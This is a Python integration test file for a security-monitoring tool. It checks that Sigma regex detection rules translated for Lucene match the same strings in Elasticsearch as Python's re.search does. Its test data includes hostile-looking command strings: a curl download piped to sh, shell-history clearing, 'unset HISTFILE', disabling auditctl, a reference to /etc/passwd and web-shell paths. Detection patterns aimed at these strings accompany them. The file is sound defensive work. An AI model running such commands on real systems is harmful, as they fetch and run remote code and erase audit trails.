"""Sigma `|re` values translated for Lucene find, in the real Elasticsearch, exactly the values
Python's `re.search` finds (the stream's semantics): anchors, word boundaries, look-arounds,
flags, classes, Lucene's reserved characters, Chinese text and line breaks."""

from __future__ import annotations

import re
import uuid
from collections.abc import Iterator

import pytest
from elasticsearch import Elasticsearch

from soc.store.lucene import case_blind, lucene_regex

pytestmark = pytest.mark.integration

VALUES = [
    "curl http://203.0.113.5/x.sh | sh", "xcurl y", "CURL -O", "curl", "run curl_x", "执行curl命令",
    "history -c", "history -cw", "; history  -w", "HISTORY -C", "unset HISTFILE", "/usr/sbin/auditctl",
    "auditctl", "auditctl -D", "sbin/auditctlx", "sqli=0", "sqli attack", "SQLi", "xss", "xsss",
    "rememberMe=abc", "REMEMBERME=abc", "a@b#c&d<e>f~g\"h", "/etc/passwd", "/etc/pass", "C:\\Windows\\System32",
    "line one\nline two", "first\nhistory -c", "ends with newline\n", "登录进程: seclogo", "Logon Process:  seclogo",
    "组名: Administrators", "Group Name: Domain Admins", "c2 beacon", "abc2def", "(c2)", "UID from '1001' to '0'",
    "", " ", "\t", "100", "a1b2", "ñandú", "Ωmega", "tab\there", "x.php5?cmd=id", "/upload/shell.jsp",
    "/auth", "/auth/", "/authenticate", "/authx", "authenticate/", "Stopped System Logging Service",
]

PATTERNS = [
    r"\bcurl\b", r"curl", r"(?i)curl", r"^curl$", r"curl$", r"^curl", r"(^|/)auditctl$", r"\bauditctl\s+(-D|-e\s*0)\b",
    r"\bhistory\s+-[cw]\b", r"(?i)\bhistory\s+-c\b", r"sqli(?!=)", r"(?i)sqli(?!=)", r"xss(?!s)", r"(?<=x)ss",
    r"(?<!x)ss", r"(?i)remember(me)=", r"rememberMe=[A-Za-z0-9+/%]{3,}", r"a@b#c&d<e>f~g\"h", r"/etc/pass?wd",
    r"C:\\Windows", r"one.line", r"(?s)one.line", r"(?m)^history", r"(?m)one$", r"newline$", r"newline\Z",
    r"(登录进程|Logon Process)\s*[:：]\s*seclogo", r"(组名|Group Name)\s*[:：]\s*(Administrators|Domain Admins)\b",
    r"(?i)(^|[^a-z0-9])c2([^a-z0-9]|$)", r"UID from '\d+' to '0'", r"^$", r"^\s*$", r"\d{3}", r"^\d+$",
    r"[^\x00-\x7f]", r"\w+and\w", r"(?i)ΩMEGA", r"\t", r"\.(?:jspx?|php\d?)(?:\?|$)", r"(?i)/upload/.*\.jsp",
    r"/auth(?:enticate)?(?:/|$)", r"\Bcurl", r"x\b", r"\b", r"\B", r"(?i:cur)L", r"^Stopp(ing|ed) (System|Journal)",
    r"a{0}b?", r"(a|)curl", r"[.-]", r"[\w.-]+\.sh\b", r"l(^|o)n", r"(?<!/)auditctl\b",
    r"(?m)one$\nline",
]


@pytest.fixture(scope="module")
def index(es: Elasticsearch) -> Iterator[str]:
    name = f"it-regex-{uuid.uuid4().hex[:8]}"
    es.indices.create(index=name, settings={"max_regex_length": 65536}, mappings={"properties": {
        "v": {"type": "keyword", "fields": {"ci": {"type": "keyword", "normalizer": "lowercase"}}}}})
    for i, v in enumerate(VALUES):
        es.index(index=name, id=str(i), document={"v": v})
    es.indices.refresh(index=name)
    yield name
    es.indices.delete(index=name)


def hits(es: Elasticsearch, index: str, field: str, regex: str) -> set[str]:
    res = es.search(index=index, size=len(VALUES), query={"query_string": {
        "query": f"{field}:/{regex}/", "max_determinized_states": 100_000}})
    return {h["_source"]["v"] for h in res["hits"]["hits"]}


@pytest.mark.parametrize("pattern", PATTERNS)
def test_lucene_finds_what_python_search_finds(es: Elasticsearch, index: str, pattern: str) -> None:
    expected = {v for v in VALUES if re.search(pattern, v, re.ASCII)}
    assert hits(es, index, "v", lucene_regex(pattern, re.ASCII)) == expected


@pytest.mark.parametrize("pattern", [p for p in PATTERNS if case_blind(p, re.ASCII)])
def test_on_the_lowercased_field_a_pattern_that_ignores_case_finds_the_same(es: Elasticsearch, index: str,
                                                                           pattern: str) -> None:
    expected = {v for v in VALUES if re.search(pattern, v, re.ASCII)}
    assert hits(es, index, "v.ci", lucene_regex(pattern, re.ASCII, fold=True)) == expected
